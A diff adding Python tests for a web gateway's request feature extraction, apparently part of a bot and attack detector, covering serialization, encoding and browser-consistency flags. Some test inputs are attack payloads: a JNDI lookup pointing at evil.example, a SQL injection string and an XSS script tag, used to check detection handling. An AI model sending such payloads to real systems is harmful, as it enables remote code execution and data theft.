@@ -1,0 +1,203 @@
+"""gateway.features: records, the canonical serialization, the encoding and the numeric vector."""
+
+from __future__ import annotations
+
+import math
+
+import numpy as np
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gateway import features as feat
+from gateway.features import ClientStats, from_record, model_input, numeric_vector, serialize
+from tests.conftest import make_features
+
+CHROME_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
+FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+CHROME_HEAD = [
+    ("Host", "shop.example.com"), ("Connection", "keep-alive"),
+    ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'), ("sec-ch-ua-mobile", "?0"),
+    ("sec-ch-ua-platform", '"Windows"'), ("Upgrade-Insecure-Requests", "1"), ("User-Agent", CHROME_UA),
+    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+    ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"), ("Sec-Fetch-Dest", "document"),
+    ("Referer", "https://shop.example.com/c/men"), ("Accept-Encoding", "gzip, deflate, br, zstd"),
+    ("Accept-Language", "en-US,en;q=0.9"), ("Cookie", "session=s3cr3t-value"),
+]
+
+# The fingerprint of the feature tables at FEATURE_VERSION "1". Changing a table (phrases,
+# numeric names, order templates, header sets) changes it: bump FEATURE_VERSION, retrain
+# the shipped model (make model), then update both constants here.
+EXPECTED = ("1", "ccde0ed8576b365b")
+
+
+def value(features: feat.Features, name: str) -> float:
+    return numeric_vector(features)[feat.NUMERIC_NAMES.index(name)]
+
+
+def test_feature_version_and_fingerprint_are_pinned() -> None:
+    assert (feat.FEATURE_VERSION, feat.FEATURE_FINGERPRINT) == EXPECTED
+    assert len(feat.FEATURE_FINGERPRINT) == 16
+    assert feat.NUM_FEATURES == len(feat.NUMERIC_NAMES) == len(set(feat.NUMERIC_NAMES))
+    assert feat.PHRASE_OFFSET + len(feat.PHRASES) <= feat.VOCAB_SIZE
+    assert len(set(feat.PHRASES)) == len(feat.PHRASES)
+    assert feat.MAX_TOKENS % feat.BUCKET == 0 and feat.BUCKET % feat.PATCH == 0
+
+
+def test_from_record_reads_the_eval_shape() -> None:
+    f = from_record({"method": "post", "path": "/search?q=a%20b", "http_version": "HTTP/1.0",
+                     "headers": [["Host", "x.example"], ["User-Agent", "curl/8.5.0"], ["Content-Length", "3"]],
+                     "body": "a=1", "client_ip": "198.51.100.4", "label": "human", "unknown": 1,
+                     "client": {"requests": 12, "rate_per_min": 3.5, "error_ratio": 0.25}})
+    assert (f.method, f.path, f.query, f.http_version) == ("POST", "/search", "q=a%20b", "1.0")
+    assert f.host == "x.example" and f.user_agent == "curl/8.5.0"
+    assert f.body_prefix == b"a=1" and f.content_length == 3
+    assert f.client == ClientStats(requests=12, rate_per_min=3.5, error_ratio=0.25)
+
+
+def test_from_record_turns_unicode_into_wire_bytes() -> None:
+    f = from_record({"method": "GET", "path": "/caf\u00e9", "headers": [["User-Agent", "\u00fcber"]]})
+    assert f.path == "/caf\u00c3\u00a9"  # the UTF-8 bytes, read as latin-1, as the server decodes them
+    assert f.user_agent == "\u00c3\u00bcber"
+    assert from_record({"method": "GET", "path": "/", "client": "nonsense"}).client is None
+
+
+def test_serialization_of_a_browser_navigation() -> None:
+    text = serialize(make_features("GET", "/products/1?ref=home", headers=CHROME_HEAD))
+    lines = text.split("\n")
+    assert lines[0] == "GET /products/1?ref=home"
+    assert lines[1].startswith("h 1.1 host connection sec-ch-ua sec-ch-ua-mobile sec-ch-ua-platform upgrade-insecure-requests user-agent")
+    assert f"u {CHROME_UA}" in lines
+    assert 'c "Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"|?0|"Windows"' in lines
+    assert "f same-origin navigate document ?1" in lines
+    assert "r same /c/men" in lines
+    assert "k cookie" in lines
+    assert "s3cr3t" not in text  # cookie values are never serialized (the text is logged)
+    assert not any(line.startswith(("~", "x ", "b ", "t ")) for line in lines)
+
+
+@pytest.mark.parametrize(("target", "decoded"), [
+    ("/search?q=%27+OR+1%3D1--", "~/search?q=' OR 1=1--"),
+    ("/a%2520b", "~/a b"),  # double encoding is decoded twice
+    ("/search?q=red+shoes", "~/search?q=red shoes"),
+    ("/plain/path?x=1", None),
+    ("/p+q", None),  # '+' is only a space in the query
+])
+def test_decoded_target_line(target: str, decoded: str | None) -> None:
+    lines = serialize(make_features("GET", target)).split("\n")
+    assert lines[0] == f"GET {target}"
+    if decoded is None:
+        assert not lines[1].startswith("~")
+    else:
+        assert lines[1] == decoded
+
+
+def test_infrastructure_headers_are_left_out_and_other_values_kept() -> None:
+    head = [("Host", "a.example"), ("X-Forwarded-For", "10.0.0.1"), ("User-Agent", "curl/8.5.0"),
+            ("X-Api-Version", "${jndi:ldap://evil.example/a}"), ("Authorization", "Bearer abc.def"), ("Via", "1.1 lb")]
+    f = make_features("GET", "/", headers=head)
+    text = serialize(f)
+    assert "h 1.1 host user-agent x-api-version authorization" in text
+    assert "x-forwarded-for" not in text and "via" not in text.split("\n")[1]
+    assert "x x-api-version=${jndi:ldap://evil.example/a}" in text
+    assert "k auth=Bearer" in text and "abc.def" not in text
+    with_infra = value(f, "header_count")
+    without = value(make_features("GET", "/", headers=[h for h in head if h[0] not in ("X-Forwarded-For", "Via")]), "header_count")
+    assert with_infra == without
+
+
+def test_form_bodies_are_serialized_raw_and_decoded() -> None:
+    body = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1"
+    head = [("Host", "a.example"), ("Content-Type", "application/x-www-form-urlencoded")]
+    lines = serialize(make_features("POST", "/c", headers=head, body=body)).split("\n")
+    assert "b " + body.decode() in lines
+    assert "~comment=<script>alert(1)</script>&x=1" in lines
+    assert "t application/x-www-form-urlencoded" in lines
+
+
+def test_every_field_is_bounded() -> None:
+    huge = "A" * 10_000
+    head = [("Host", "a.example"), ("User-Agent", huge), ("Accept", huge), ("Referer", "https://b.example/" + huge),
+            ("X-Long", huge), ("X-Other", huge), ("Sec-Ch-Ua", huge)] + [(f"X-H{i}", "v") for i in range(200)]
+    f = make_features("POST", "/" + huge + "?" + huge, headers=head, body=huge.encode())
+    text = serialize(f)
+    assert len(text) < 1600
+    mi = model_input(f)
+    assert len(mi.ids) == feat.MAX_TOKENS
+
+
+def test_encoding_uses_phrases_and_bytes() -> None:
+    ids = feat.encode("user-agent X\x00\xff")
+    assert ids.dtype == np.int64
+    assert ids[0] == feat.PHRASE_OFFSET + feat.PHRASES.index("user-agent")
+    assert list(ids[1:]) == [ord(" ") + 1, ord("X") + 1, 0 + 1, 255 + 1]
+    text = serialize(make_features("GET", "/x?q=1", headers=CHROME_HEAD))
+    encoded = feat.encode(text)
+    assert len(encoded) < len(text) * 0.6  # the phrase vocabulary roughly halves a browser request
+    assert feat.decode_ids(encoded) == text
+    assert feat.encode("\u20ac")[0] == 0 + feat.BYTE_OFFSET  # not latin-1: only hand-made records, never the wire
+
+
+@pytest.mark.parametrize(("head", "version", "flag", "expected"), [
+    (CHROME_HEAD, "1.1", "ch_version_mismatch", 0.0),
+    ([(n, v.replace('v="124"', 'v="110"')) for n, v in CHROME_HEAD], "1.1", "ch_version_mismatch", 1.0),
+    ([(n, v) for n, v in CHROME_HEAD if not n.lower().startswith("sec-ch")], "1.1", "ch_missing_on_chromium", 1.0),
+    ([("Host", "a"), ("User-Agent", FIREFOX_UA), ("sec-ch-ua", '"Chromium";v="124"')], "1.1", "ch_on_non_chromium", 1.0),
+    ([(n, v.replace('"Windows"', '"macOS"')) for n, v in CHROME_HEAD], "1.1", "ch_platform_mismatch", 1.0),
+    ([(n, v) for n, v in CHROME_HEAD if not n.startswith("Sec-Fetch")], "1.1", "fetch_missing_on_browser", 1.0),
+    ([(n, v) for n, v in CHROME_HEAD if n != "Accept-Language"], "1.1", "language_missing_on_browser", 1.0),
+    (CHROME_HEAD, "1.0", "http10_browser", 1.0),
+    (CHROME_HEAD, "1.1", "order_chromium", 1.0),
+    ([("Host", "a"), ("User-Agent", "python-requests/2.31.0"), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
+      ("Connection", "keep-alive")], "1.1", "ua_library", 1.0),
+    ([("Host", "a"), ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")], "1.1", "ua_botlike", 1.0),
+])
+def test_numeric_flags(head: list[tuple[str, str]], version: str, flag: str, expected: float) -> None:
+    assert value(make_features("GET", "/", headers=head, http_version=version), flag) == expected
+
+
+def test_numeric_vector_is_finite_and_scaled() -> None:
+    f = make_features("POST", "/" + "%41" * 300 + "?q=" + "'" * 50, headers=CHROME_HEAD, body=b"x" * 3000,
+                      client=ClientStats(requests=10**9, rate_per_min=1e6, error_ratio=3.0, path_diversity=0.5, mean_gap_s=1e9,
+                                         challenges_passed=99))
+    vec = numeric_vector(f)
+    assert len(vec) == feat.NUM_FEATURES
+    assert all(math.isfinite(v) and -0.01 <= v <= 4.0 for v in vec)
+    assert value(f, "client_present") == 1.0 and value(make_features(), "client_present") == 0.0
+
+
+def test_pad_batch_buckets_and_pads() -> None:
+    short = model_input(make_features("GET", "/"))
+    long = model_input(make_features("GET", "/" + "a" * 150, headers=CHROME_HEAD))
+    ids, numeric = feat.pad_batch([short, long])
+    assert ids.dtype == np.int64 and numeric.dtype == np.float32
+    assert ids.shape == (2, feat.bucket_length(len(long.ids))) and ids.shape[1] % feat.BUCKET == 0
+    assert numeric.shape == (2, feat.NUM_FEATURES)
+    assert (ids[0, len(short.ids):] == feat.PAD_ID).all() and (ids[0, : len(short.ids)] == short.ids).all()
+    assert feat.pad_batch([])[0].shape == (0, feat.BUCKET)
+    assert feat.bucket_length(1) == feat.BUCKET and feat.bucket_length(10_000) == feat.MAX_TOKENS
+
+
+def test_model_input_json_round_trip_and_cache_key() -> None:
+    mi = model_input(make_features("GET", "/x", headers=CHROME_HEAD))
+    back = feat.ModelInput.from_json(mi.to_json())
+    assert back is not None and back.text == mi.text and (back.ids == mi.ids).all()
+    assert np.allclose(back.numeric, mi.numeric, atol=1e-5)
+    assert feat.ModelInput.from_json({**mi.to_json(), "feature_version": "0"}) is None
+    assert mi.cache_key() == model_input(make_features("GET", "/x", headers=CHROME_HEAD)).cache_key()
+    assert mi.cache_key() != model_input(make_features("GET", "/y", headers=CHROME_HEAD)).cache_key()
+
+
+headers_st = st.lists(st.tuples(st.text(min_size=1, max_size=30), st.text(max_size=300)), max_size=40)
+
+
+@settings(max_examples=150, deadline=None)
+@given(method=st.text(min_size=1, max_size=10), path=st.text(max_size=600), headers=headers_st,
+       body=st.one_of(st.none(), st.text(max_size=800)), version=st.sampled_from(["1.0", "1.1", "2", "", "HTTP/1.1"]))
+def test_any_record_serializes_within_bounds(method: str, path: str, headers: list[tuple[str, str]], body: str | None,
+                                             version: str) -> None:
+    f = from_record({"method": method, "path": path, "headers": headers, "body": body, "http_version": version})
+    mi = model_input(f)
+    assert 0 < len(mi.ids) <= feat.MAX_TOKENS
+    assert int(mi.ids.min()) > feat.PAD_ID and int(mi.ids.max()) < feat.VOCAB_SIZE
+    assert len(mi.numeric) == feat.NUM_FEATURES and all(math.isfinite(v) for v in mi.numeric)
